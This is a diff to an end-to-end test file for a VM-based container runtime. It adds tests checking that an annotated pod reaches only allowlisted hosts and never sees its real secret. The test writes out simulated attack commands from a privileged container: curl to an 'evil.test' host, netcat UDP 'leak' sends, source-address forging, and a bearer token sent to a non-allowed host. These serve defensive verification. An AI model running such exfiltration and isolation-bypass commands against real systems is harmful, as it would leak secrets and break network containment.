@@ -25,10 +25,14 @@ import pytest
 from tests.e2e.conftest import ROOT, BoxCli
 from tests.e2e.containerd_host import containerd, import_image
 from tests.k8s.cri.client import CriClient, pb
+from tests.network.conftest import Internet, internet  # noqa: F401 - the fixture
+from tests.network.tools_image import build_tools_image
 
 pytestmark = pytest.mark.vm
 HELLO = "docker.io/library/hello:1"  # the sandbox's image too (its agent loop never ends, as pause)
 MARKED = "docker.io/library/marked:1"  # hello + a file only this image has
+TOOLS = "docker.io/library/tools:1"  # hello + the host's curl
+SECRET = "sk-live-cri-test-7d1f0a"
 
 
 def _marked_image(out: Path) -> Path:
@@ -54,7 +58,8 @@ CONFLIST = {"cniVersion": "1.0.0", "name": "a3s-test", "plugins": [
 
 
 @pytest.fixture(scope="module")
-def cri(box: BoxCli, hello_image: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[CriClient]:
+def cri(box: BoxCli, hello_image: Path, internet: Internet,  # noqa: F811
+        tmp_path_factory: pytest.TempPathFactory) -> Iterator[CriClient]:
     d = tmp_path_factory.mktemp("cri")
     (d / "cni" / "conf").mkdir(parents=True)
     (d / "cni" / "conf" / "10-a3s-test.conflist").write_text(json.dumps(CONFLIST))
@@ -64,10 +69,13 @@ def cri(box: BoxCli, hello_image: Path, tmp_path_factory: pytest.TempPathFactory
               f'  [plugins."io.containerd.grpc.v1.cri".containerd.runtimes.runc]\n'
               f'    runtime_type = "io.containerd.runc.v2"\n'
               f'  [plugins."io.containerd.grpc.v1.cri".containerd.runtimes.a3sbox]\n'
-              f'    runtime_type = "io.containerd.a3sbox.v2"\n')
-    with containerd(d, box.home, config) as sock:
+              f'    runtime_type = "io.containerd.a3sbox.v2"\n'
+              f'    pod_annotations = ["a3s.dev/*"]\n')
+    # the egress proxy the shims start trusts "the internet" (as the host's store would)
+    with containerd(d, box.home, config, {"SSL_CERT_FILE": str(internet.ca)}) as sock:
         import_image(sock, hello_image, HELLO, namespace="k8s.io")
         import_image(sock, _marked_image(d / "marked"), MARKED, namespace="k8s.io")
+        import_image(sock, build_tools_image(d / "tools"), TOOLS, namespace="k8s.io")
         refused = [line for line in (d / "containerd.log").read_text().splitlines()
                    if "failed to load plugin io.containerd.grpc.v1.cri" in line]
         assert not refused, refused
@@ -352,3 +360,115 @@ def test_a_pod_on_a_cni_network_is_its_vm(cri: CriClient, box: BoxCli, tmp_path:
             if pod:
                 cri.stop_pod_sandbox(pod)
                 cri.remove_pod_sandbox(pod)
+
+
+@pytest.mark.skipif(not (CNI_BIN / "bridge").exists(), reason="needs containernetworking-plugins")
+def test_an_annotated_pod_reaches_its_allowed_names_only_and_never_holds_its_secret(
+        cri: CriClient, box: BoxCli, internet: Internet, tmp_path: Path) -> None:  # noqa: F811
+    """a3s.dev/network and a3s.dev/secrets: the pod's VM is routed through its namespace,
+    where every flow it starts meets the host's egress proxy under the annotated policy;
+    a container's secret variable is a placeholder inside while the upstream gets the
+    value; inbound traffic to the pod IP still reaches the guest."""
+    h, s = internet.http_port, internet.https_port
+    annotations = {
+        "a3s.dev/network": f"mode: allowlist\negress: [api.test:{h}, api.test:{s}, other.test:{s}]\n"
+                           "hosts: {api.test: 127.0.0.1, other.test: 127.0.0.1}\n",
+        "a3s.dev/secrets": f"TOKEN: [api.test:{s}]\n",
+    }
+    sandbox = pb.PodSandboxConfig(
+        metadata=pb.PodSandboxMetadata(name="fenced", uid="uid-fenced", namespace="default"),
+        hostname="fenced", log_directory=str(tmp_path / "logs"), annotations=annotations,
+        linux=pb.LinuxPodSandboxConfig())
+    pod = cri.run_pod_sandbox(sandbox, handler="a3sbox")
+    try:
+        ip = cri.pod_sandbox_status(pod).status.network.ip
+        config = _container_config("agent", TOOLS, ["sh", "-c", "while true; do uname -r | nc -l -p 8080; done"])
+        config.envs.append(pb.KeyValue(key="TOKEN", value=SECRET))
+        # the hostile side: root in the VM's network namespace, free to change its addresses
+        config.linux.security_context.capabilities.add_capabilities.extend(["NET_ADMIN", "NET_RAW"])
+        agent = cri.create_container(pod, config, sandbox)
+        cri.start_container(agent)
+        _wait_state(cri, agent, pb.CONTAINER_RUNNING)
+
+        def sh(script: str) -> tuple[int, str]:
+            code, out, err = cri.exec_sync(agent, ["sh", "-c", script], timeout=90)
+            return code, (out + err).decode(errors="replace")
+
+        # the allowed name answers, through the proxy (its log says so)
+        code, out = sh(f"/usr/bin/curl -sS -m 20 http://api.test:{h}/cri-allowed")
+        assert code == 0 and json.loads(out)["path"] == "/cri-allowed", out
+        # other names, raw addresses and the node are not reached; nothing got through
+        before = len(internet.requests)
+        for target in (f"http://evil.test:{h}/x", f"http://127.0.0.1:{h}/x", f"http://{BRIDGE_IP}:{h}/x",
+                       f"http://other.test:{h}/x"):
+            code, out = sh(f"/usr/bin/curl -fsS -m 10 {target}; echo rc=$?")
+            assert "rc=0" not in out, (target, out)
+        # nothing reaches the node's own listeners directly: not TCP (the proxy refuses
+        # it), not UDP other than DNS, not ICMP, not from a forged source address
+        with socket.create_server((BRIDGE_IP, 0)) as tcp, \
+                socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp, \
+                socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003)) as wire:
+            wire.bind((BRIDGE, 0))  # every frame on the pod network's bridge, from now on
+            wire.setblocking(False)
+            udp.bind((BRIDGE_IP, 0))
+            tcp.settimeout(0.5)
+            udp.settimeout(0.5)
+            tport, uport = tcp.getsockname()[1], udp.getsockname()[1]
+            code, out = sh(f"/usr/bin/curl -fsS -m 5 http://{BRIDGE_IP}:{tport}/; echo rc=$?; "
+                           f"echo leak | nc -u -w 1 {BRIDGE_IP} {uport}; "
+                           f"ping -c 1 -W 2 {BRIDGE_IP}; echo ping=$?; "
+                           f"ip addr add 10.213.77.250/24 dev eth0 && "
+                           f"/usr/bin/curl -sS -m 5 --interface 10.213.77.250 http://{BRIDGE_IP}:{tport}/; echo rc=$?; "
+                           f"ip addr add 10.213.99.9/32 dev eth0 && "
+                           f"echo leak | nc -u -w 1 -s 10.213.99.9 {BRIDGE_IP} {uport}; echo done")
+            assert "rc=0" not in out and "ping=0" not in out and "done" in out, out
+            with pytest.raises(TimeoutError):
+                tcp.accept()
+            with pytest.raises(TimeoutError):
+                udp.recvfrom(100)
+            # nor did the namespace answer the forged address for the VM (a SYN-ACK of the
+            # proxy's, or the ARP asking where to send it: the forged packets were dropped)
+            forged = socket.inet_aton("10.213.77.250")
+            frames = []
+            while True:
+                try:
+                    frames.append(wire.recv(2048))
+                except BlockingIOError:
+                    break
+            toward = [f for f in frames if (f[12:14] == b"\x08\x06" and f[38:42] == forged)
+                      or (f[12:14] == b"\x08\x00" and f[30:34] == forged)]
+            assert frames and not toward, toward
+        assert len(internet.requests) == before
+
+        # the secret: a placeholder in the container and its execs, the value upstream
+        code, out = sh("echo $TOKEN; cat /proc/1/environ 2>/dev/null | tr '\\0' '\\n' | grep -c " + SECRET)
+        placeholder = out.split()[0]
+        assert placeholder.startswith("a3s-secret-token-") and SECRET not in out, out
+        code, out = sh(f'/usr/bin/curl -sS -m 20 -H "Authorization: Bearer $TOKEN" https://api.test:{s}/cri-secret')
+        assert code == 0, out
+        assert internet.last("/cri-secret")["headers"]["authorization"] == f"Bearer {SECRET}"
+        assert SECRET not in out and "Bearer a3s-secret-token-" in out  # echoed back: scrubbed
+        code, out = sh(f'/usr/bin/curl -sS -m 20 -H "Authorization: Bearer $TOKEN" https://other.test:{s}/cri-leak; '
+                       "echo rc=$?")
+        assert SECRET not in json.dumps([r for r in internet.requests if r["path"] == "/cri-leak"])
+
+        # inbound: the pod's IP still answers from the guest's kernel
+        guest = (box.home / "cache" / "kernels" / "current").read_text().strip().encode()
+        assert _fetch(ip, 8080).strip() == guest
+    finally:
+        cri.stop_pod_sandbox(pod)
+        cri.remove_pod_sandbox(pod)
+
+
+def test_a_pod_with_an_annotation_it_cannot_honour_does_not_start(cri: CriClient, tmp_path: Path) -> None:
+    sandbox = pb.PodSandboxConfig(
+        metadata=pb.PodSandboxMetadata(name="bad", uid="uid-bad", namespace="default"),
+        hostname="bad", log_directory=str(tmp_path / "logs"),
+        annotations={"a3s.dev/network": "mode: allowlist\negress: [api.test]\n",
+                     "a3s.dev/secrets": "TOKEN: [elsewhere.test]\n"},
+        linux=pb.LinuxPodSandboxConfig())
+    before = _qemus()
+    with pytest.raises(grpc.RpcError) as e:
+        cri.run_pod_sandbox(sandbox, handler="a3sbox")
+    assert "a3s.dev/secrets: TOKEN: elsewhere.test is not allowed by a3s.dev/network" in str(e.value.details())
+    assert _qemus() <= before
